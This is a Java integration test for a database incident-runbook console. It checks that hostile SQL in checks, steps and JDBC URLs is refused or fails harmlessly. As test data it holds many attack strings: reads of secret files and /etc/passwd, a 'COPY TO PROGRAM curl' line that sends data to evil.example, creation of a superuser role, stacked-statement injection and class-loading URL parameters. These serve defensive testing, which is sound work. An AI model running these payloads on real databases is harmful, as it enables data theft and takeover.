package dev.backout.incident;

import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.Statement;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import dev.backout.IntegrationTest;
import dev.backout.ScratchTargets;
import dev.backout.SignedIn;
import dev.backout.approval.Approval;
import dev.backout.approval.Approvals;
import dev.backout.approval.ReviewedPlans;
import dev.backout.execution.StepRun;
import dev.backout.execution.StepState;
import dev.backout.runbook.RunbookCatalog;
import dev.backout.runbook.RunbookProblem;
import dev.backout.security.Role;
import dev.backout.system.DemoTarget;
import dev.backout.target.Environment;
import dev.backout.target.Target;
import dev.backout.target.TargetException;
import dev.backout.target.Targets;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.security.core.Authentication;
import org.springframework.security.core.context.SecurityContextHolder;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.not;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;

/**
 * The catalogue of hostile checks, steps and target URLs (issue 11), each on real PostgreSQL.
 * Each is refused when its runbook or target is loaded, which no target changes; the checks a
 * linter cannot see through (a function with side effects) run against a superuser target and a
 * least-privileged one, and fail there with nothing changed.
 */
@IntegrationTest
class HostileRunbooksIntegrationTests {

	static final Path RUNBOOKS = IncidentWorkflowIntegrationTests.RUNBOOKS;

	@Autowired
	RunbookCatalog catalog;

	@Autowired
	Targets targets;

	@Autowired
	Incidents incidents;

	@Autowired
	IncidentApprovals incidentApprovals;

	@Autowired
	IncidentSteps incidentSteps;

	@Autowired
	DemoTarget demo;

	@Autowired
	Approvals approvals;

	@Autowired
	org.springframework.test.web.servlet.MockMvc mvc;

	Path file;

	@BeforeEach
	void directory() throws Exception {
		Files.createDirectories(RUNBOOKS);
	}

	@AfterEach
	void removeTheRunbook() throws Exception {
		SecurityContextHolder.clearContext();
		if (this.file != null) {
			Files.deleteIfExists(this.file);
			this.catalog.reload(null);
		}
	}

	static Stream<Arguments> hostileChecks() {
		return Stream.of(Arguments.of("another connection", "SELECT dblink_exec('dbname=demo', 'CREATE TABLE pwned ()')", "dblink_exec"),
				Arguments.of("kill a session", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "pg_terminate_backend"),
				Arguments.of("cancel a session", "SELECT pg_cancel_backend(1)", "pg_cancel_backend"),
				Arguments.of("change the session", "SELECT set_config('search_path', 'evil', false)", "set_config"),
				Arguments.of("read the console's key", "SELECT pg_read_file('data/secret.key')", "pg_read_file"),
				Arguments.of("qualified file read", "SELECT pg_catalog.pg_read_binary_file('data/trail.key')", "pg_read_binary_file"),
				Arguments.of("quoted file read", "SELECT \"pg_read_file\"('data/secret.key')", "pg_read_file"),
				Arguments.of("large object import", "SELECT lo_import('/etc/passwd')", "lo_import"),
				Arguments.of("reload configuration", "SELECT pg_reload_conf()", "pg_reload_conf"),
				Arguments.of("advance a sequence", "SELECT nextval('orders_id_seq')", "nextval"),
				Arguments.of("list server files", "SELECT pg_ls_dir('.')", "pg_ls_dir"),
				Arguments.of("hold a lock", "SELECT pg_advisory_lock(42)", "pg_advisory_lock"),
				Arguments.of("create a table", "SELECT * INTO stolen FROM pg_roles", "SELECT … INTO"),
				Arguments.of("run a program", "COPY (SELECT 1) TO PROGRAM 'id'", "must be read-only queries"),
				Arguments.of("write in a CTE", "WITH gone AS (DELETE FROM things RETURNING 1) SELECT count(*) FROM gone",
						"must be read-only queries"),
				Arguments.of("a second statement", "SELECT 1; DROP TABLE things", "must be read-only queries"));
	}

	/** ASVS 4.0.3 V1.14.1 / V12.3.5: a check runs before approval, so it may only read. */
	@ParameterizedTest(name = "check: {0}")
	@MethodSource("hostileChecks")
	void aCheckThatCouldChangeAnythingIsRefusedWhenTheRunbookIsLoaded(String name, String sql, String named) throws Exception {
		assertRefusedAtLoad(runbook("SELECT 1", sql, "SELECT 1"), named);
	}

	static Stream<Arguments> hostileSteps() {
		return Stream.of(Arguments.of("run a program", "COPY things TO PROGRAM 'curl -d @- evil.example'", "COPY reads or writes"),
				Arguments.of("make the console's role a superuser", "ALTER ROLE backout SUPERUSER", "ALTER ROLE (changes roles)"),
				Arguments.of("silence the step markers", "CREATE RULE quiet AS ON INSERT TO backout.applied_step DO INSTEAD NOTHING",
						"the console's own schemas"),
				Arguments.of("drop the marker table", "DROP TABLE IF EXISTS backout.applied_step", "the console's own schemas"),
				Arguments.of("dynamic SQL", "DO $$ BEGIN EXECUTE 'DROP TABLE things'; END $$", "dynamicSql: true"),
				Arguments.of("update every row", "UPDATE things SET n = 0", "UPDATE without a WHERE that filters"),
				Arguments.of("delete where true", "DELETE FROM things WHERE true", "DELETE without a WHERE that filters"),
				Arguments.of("drop a domain's columns", "DROP DOMAIN IF EXISTS code CASCADE", "DROP DOMAIN … CASCADE"),
				Arguments.of("drop an extension's columns", "DROP EXTENSION IF EXISTS citext CASCADE", "DROP EXTENSION … CASCADE"),
				Arguments.of("drop what a role owns", "DROP OWNED BY app", "DROP OWNED"),
				Arguments.of("open a table to everyone", "GRANT ALL ON things TO PUBLIC", "GRANT (changes privileges)"),
				Arguments.of("reconfigure the server", "ALTER SYSTEM SET log_statement = 'none'", "ALTER SYSTEM"),
				Arguments.of("load a library", "LOAD 'evil'", "LOAD loads a shared library"),
				Arguments.of("a name the lexer used to misread", "SELECT 1 AS €$$; DROP TABLE things; SELECT $$", "DROP TABLE"),
				Arguments.of("run as someone else", "SET ROLE postgres", "SET ROLE"));
	}

	/** ASVS 4.0.3 V1.14.1 / V5.3.4: a step does what it says, and what it says is checked before it loads. */
	@ParameterizedTest(name = "step: {0}")
	@MethodSource("hostileSteps")
	void aStepThatCouldEscapeIsRefusedWhenTheRunbookIsLoaded(String name, String sql, String named) throws Exception {
		assertRefusedAtLoad(runbook("SELECT 1", "SELECT 1", sql), named);
	}

	static Stream<Arguments> hostileUrlParameters() {
		return Stream.of("socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml",
				"sslfactory=org.example.Evil", "sslhostnameverifier=org.example.Evil", "authenticationPluginClassName=org.example.Evil",
				"sslpasswordcallback=org.example.Evil", "loggerFile=/tmp/backout.log", "options=-c%20statement_timeout=0",
				"preferQueryMode=simple", "user=postgres").map(Arguments::of);
	}

	/** ASVS 4.0.3 V5.2.6 / V14.2.1: a target URL carries an address and TLS settings, nothing that loads code or changes what is sent. */
	@ParameterizedTest(name = "URL: {0}")
	@MethodSource("hostileUrlParameters")
	void aTargetUrlParameterOutsideTheAllowListIsRefused(String parameter) {
		String name = parameter.substring(0, parameter.indexOf('='));
		assertThatExceptionOfType(TargetException.class)
			.isThrownBy(() -> this.targets.register(new Targets.TargetSpec("hostile-" + System.nanoTime() % 100_000, "scratch",
					Environment.STAGING, this.demo.jdbcUrl() + "?" + parameter, "app", null), admin()))
			.withMessageStartingWith("The JDBC URL may not set ")
			.withMessageContaining(name);
	}

	/**
	 * ASVS 4.0.3 V1.4.5 / V12.3.5: what the linter cannot see through — a function that runs a
	 * program, one that writes — fails on a superuser target (checks refused as superuser) and on a
	 * least-privileged one (the read-only role may neither), and changes nothing on either.
	 */
	@Test
	void checksThatHideSideEffectsInAFunctionFailOnBothTargetsWithNothingChanged() throws Exception {
		Path witness = Path.of("target", "hostile-check-ran-" + System.nanoTime());
		String setup = """
				CREATE TABLE things (n int); INSERT INTO things VALUES (1), (2);
				CREATE FUNCTION run_program() RETURNS int LANGUAGE plpgsql AS $f$
				  BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch %s'''; RETURN 1; END $f$;
				CREATE FUNCTION write_row() RETURNS int LANGUAGE sql AS $f$ INSERT INTO things VALUES (99) RETURNING 1 $f$;
				""".formatted(witness.toAbsolutePath());
		ScratchTargets scratch = new ScratchTargets(this.demo, this.targets);
		String suffix = String.valueOf(System.nanoTime() % 1_000_000);
		Target superuser = asSuperuserWithoutAllowance(scratch.create("hostile-super-" + suffix, setup));
		Target leastPrivileged = leastPrivileged(scratch, "hostile_lp_" + suffix, setup);

		for (Target target : List.of(superuser, leastPrivileged)) {
			for (String check : List.of("SELECT run_program()", "SELECT write_row()")) {
				StepRun run = precheck(target, check);
				assertThat(run.state()).as("%s on %s", check, target.name()).isEqualTo(StepState.FAILED);
				if (target == superuser) {
					assertThat(run.error()).startsWith("The console refused: Checks on target " + target.name() + " would run as "
							+ this.demo.username() + ", a superuser");
				}
				else {
					assertThat(run.error()).as("%s on %s", check, target.name())
						.containsAnyOf("permission denied to COPY to or from an external program", "READ ONLY transaction refused");
				}
				assertThat(run.error()).doesNotContain("stayed applied");
				assertThat(witness).as("the program ran through %s on %s", check, target.name()).doesNotExist();
				try (Connection connection = new ScratchTargets(this.demo, this.targets).connect(target);
						Statement statement = connection.createStatement();
						ResultSet rs = statement.executeQuery("SELECT count(*) FROM things")) {
					rs.next();
					assertThat(rs.getLong(1)).as("rows after %s on %s", check, target.name()).isEqualTo(2);
				}
			}
		}
	}

	/**
	 * A step runs after approval, as the target's step credential; the linter cannot see into a
	 * function it calls. On a least-privileged target (an owner without SUPERUSER) each escape
	 * hidden that way fails at run time, and the step's own write before it is rolled back with it.
	 * On a superuser target nothing but the role confines a step, which Test connection says.
	 */
	@Test
	void stepsThatHideAnEscapeInAFunctionFailOnALeastPrivilegedTargetWithNothingChanged() throws Exception {
		Path witness = Path.of("target", "hostile-step-ran-" + System.nanoTime());
		String suffix = String.valueOf(System.nanoTime() % 1_000_000);
		String name = "hostile_steps_" + suffix;
		String setup = """
				CREATE TABLE things (n int); INSERT INTO things VALUES (1), (2);
				CREATE FUNCTION run_program() RETURNS int LANGUAGE plpgsql AS $f$
				  BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch %s'''; RETURN 1; END $f$;
				CREATE FUNCTION escalate() RETURNS int LANGUAGE plpgsql AS $f$
				  BEGIN EXECUTE 'ALTER ROLE %s_owner SUPERUSER'; RETURN 1; END $f$;
				CREATE FUNCTION read_key() RETURNS text LANGUAGE sql AS $f$ SELECT pg_read_file('postgresql.conf') $f$;
				CREATE FUNCTION make_role() RETURNS int LANGUAGE plpgsql AS $f$
				  BEGIN EXECUTE 'CREATE ROLE %s_backdoor LOGIN SUPERUSER'; RETURN 1; END $f$;
				""".formatted(witness.toAbsolutePath(), name, name);
		Target target = leastPrivileged(new ScratchTargets(this.demo, this.targets), name, setup);
		Authentication commander = SignedIn.as("commander", Role.COMMANDER);
		for (String call : List.of("run_program()", "escalate()", "read_key()", "make_role()")) {
			Incident incident = approvedIncident(target, "INSERT INTO things VALUES (7); SELECT " + call);
			SignedIn.as("commander", Role.COMMANDER);
			StepRun run = this.incidentSteps.runStep(incident.id(), "hostile-step", null, Map.of(), commander);
			assertThat(run.state()).as(call).isEqualTo(StepState.FAILED);
			assertThat(run.error()).as(call).containsIgnoringCase("permission denied");
			assertThat(run.error()).as(call).doesNotContain("stayed applied");
			assertThat(witness).as("the program ran through %s", call).doesNotExist();
			try (Connection admin = DriverManager.getConnection(target.jdbcUrl(), this.demo.username(), this.demo.password());
					Statement statement = admin.createStatement();
					ResultSet rs = statement.executeQuery("SELECT (SELECT count(*) FROM things), "
							+ "(SELECT rolsuper FROM pg_roles WHERE rolname = '" + name + "_owner'), "
							+ "(SELECT count(*) FROM pg_roles WHERE rolname = '" + name + "_backdoor')")) {
				rs.next();
				assertThat(rs.getLong(1)).as("rows after %s (the step's INSERT rolled back)", call).isEqualTo(2);
				assertThat(rs.getBoolean(2)).as("owner became a superuser through %s", call).isFalse();
				assertThat(rs.getLong(3)).as("a role was created through %s", call).isZero();
			}
			this.incidents.abort(incident.id(), this.incidents.get(incident.id()).version(), "Hostile step refused by the server",
					commander);
		}
	}

	/** The incident page says when an admin let checks run as a superuser, and only then. */
	@Test
	void theIncidentPageSaysWhenChecksMayRunAsASuperuser() throws Exception {
		ScratchTargets scratch = new ScratchTargets(this.demo, this.targets);
		String suffix = String.valueOf(System.nanoTime() % 1_000_000);
		Target allowed = scratch.create("hostile-allowed-" + suffix, "CREATE TABLE things (n int)");
		Target reader = leastPrivileged(scratch, "hostile_page_" + suffix, "CREATE TABLE things (n int)");
		StepRun onAllowed = precheck(allowed, "SELECT count(*) FROM things");
		StepRun onReader = precheck(reader, "SELECT count(*) FROM things");
		assertThat(onAllowed.state()).isEqualTo(StepState.SUCCEEDED);
		assertThat(onReader.state()).isEqualTo(StepState.SUCCEEDED);
		this.mvc.perform(get("/incidents/{id}", onAllowed.incidentId()).with(user("commander").roles("COMMANDER")))
			.andExpect(content().string(containsString("may run as a superuser: an admin allowed it")));
		this.mvc.perform(get("/incidents/{id}", onReader.incidentId()).with(user("commander").roles("COMMANDER")))
			.andExpect(content().string(not(containsString("may run as a superuser"))));
	}

	private StepRun precheck(Target target, String check) throws Exception {
		String id = "hostile-runtime-" + System.nanoTime() % 1_000_000;
		this.file = Files.writeString(RUNBOOKS.resolve(id + ".yaml"), runbook("SELECT 1", check, "SELECT 1").replace("id: hostile\n",
				"id: " + id + "\n"));
		assertThat(this.catalog.reload(null).errors()).filteredOn((p) -> p.file().contains(id)).isEmpty();
		Authentication commander = SignedIn.as("commander", Role.COMMANDER);
		Incident incident = this.incidents.open(new Incidents.Opening(id, target.id(), "Hostile check", Severity.SEV3, null), commander);
		incident = this.incidents.answer(incident.id(), incident.version(), "broken", "Yes", commander);
		this.incidents.confirmDecision(incident.id(), incident.version(), null, commander);
		List<StepRun> runs = this.incidentSteps.runPrechecks(incident.id(), commander);
		Files.deleteIfExists(this.file);
		return runs.stream().filter((run) -> run.stepId().equals(id)).findFirst().orElseThrow(() -> new AssertionError("runs: " + runs));
	}

	/** An incident on the hostile runbook whose step is {@code step}, approved by the lead. */
	private Incident approvedIncident(Target target, String step) throws Exception {
		String id = "hostile-step-" + System.nanoTime() % 1_000_000;
		this.file = Files.writeString(RUNBOOKS.resolve(id + ".yaml"), runbook("SELECT 1", "SELECT 1", step).replace("id: hostile\n",
				"id: " + id + "\n"));
		assertThat(this.catalog.reload(null).errors()).filteredOn((p) -> p.file().contains(id)).isEmpty();
		Authentication commander = SignedIn.as("commander", Role.COMMANDER);
		Incident incident = this.incidents.open(new Incidents.Opening(id, target.id(), "Hostile step", Severity.SEV3, null), commander);
		incident = this.incidents.answer(incident.id(), incident.version(), "broken", "Yes", commander);
		incident = this.incidents.confirmDecision(incident.id(), incident.version(), null, commander);
		this.incidentSteps.runPrechecks(incident.id(), commander);
		this.incidentApprovals.requestApproval(incident.id(), this.incidents.get(incident.id()).version(), commander);
		this.approvals.decide(incident.id(), SignedIn.as("lead", Role.TEAM_LEAD), Role.TEAM_LEAD, Approval.Decision.APPROVED,
				"Reviewed", IncidentWorkflowIntegrationTests.PASSWORD, ReviewedPlans.current(this.approvals, incident.id()));
		Files.deleteIfExists(this.file);
		return this.incidents.get(incident.id());
	}

	private Target asSuperuserWithoutAllowance(Target target) {
		return this.targets.update(target.id(), new Targets.TargetSpec(target.name(), target.aliasGroup(), target.environment(),
				target.jdbcUrl(), target.username(), null), admin());
	}

	/** A database owned by a role without SUPERUSER, with a reader that holds pg_read_all_data only. */
	private Target leastPrivileged(ScratchTargets scratch, String name, String setup) throws Exception {
		try (Connection admin = DriverManager.getConnection(this.demo.jdbcUrl(), this.demo.username(), this.demo.password());
				Statement statement = admin.createStatement()) {
			statement.execute("CREATE ROLE " + name + "_owner LOGIN NOSUPERUSER");
			statement.execute("CREATE ROLE " + name + "_reader LOGIN NOSUPERUSER");
			statement.execute("GRANT pg_read_all_data TO " + name + "_reader");
			statement.execute("CREATE DATABASE " + name + " OWNER " + name + "_owner");
		}
		String url = this.demo.jdbcUrl().replaceFirst("/" + DemoTarget.DATABASE + "(\\?|$)", "/" + name + "$1");
		try (Connection owner = DriverManager.getConnection(url, name + "_owner", null);
				Statement statement = owner.createStatement()) {
			statement.execute(setup);
		}
		return this.targets.register(new Targets.TargetSpec(name.replace('_', '-'), "scratch", Environment.STAGING, url,
				name + "_owner", null, name + "_reader", null, false), admin());
	}

	private void assertRefusedAtLoad(String runbook, String named) throws Exception {
		this.file = Files.writeString(RUNBOOKS.resolve("hostile.yaml"), runbook);
		List<RunbookProblem> errors = this.catalog.reload(null).errors()
			.stream()
			.filter((problem) -> problem.file().endsWith("hostile.yaml"))
			.toList();
		assertThat(errors).extracting(RunbookProblem::message).anyMatch((message) -> message.contains(named));
		assertThat(this.catalog.find("hostile")).isEmpty();
	}

	private static Authentication admin() {
		return SignedIn.as("admin", Role.ADMIN);
	}

	private static String runbook(String precheckSetup, String precheck, String step) {
		return """
				id: hostile
				title: Hostile runbook
				migration: { id: "66", tool: sql }
				risk: LOW
				summary: Tries what a runbook must not do.
				target: scratch
				decision:
				  start: broken
				  questions:
				    - id: broken
				      ask: Is it broken?
				      answers:
				        - { answer: "Yes", outcome: ROLLBACK }
				        - { answer: "No", outcome: FIX_FORWARD }
				authorization:
				  approvers: [TEAM_LEAD]
				phases:
				  precheck:
				    steps:
				      - id: hostile
				        title: Hostile check
				        check: %s
				  execute:
				    steps:
				      - id: hostile-step
				        title: Hostile step
				        sql: %s
				  verify:
				    steps:
				      - id: done
				        title: Done
				        check: SELECT 1
				""".formatted(yaml(precheck), yaml(step));
	}

	/** A YAML double-quoted scalar. */
	private static String yaml(String text) {
		return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
	}


}
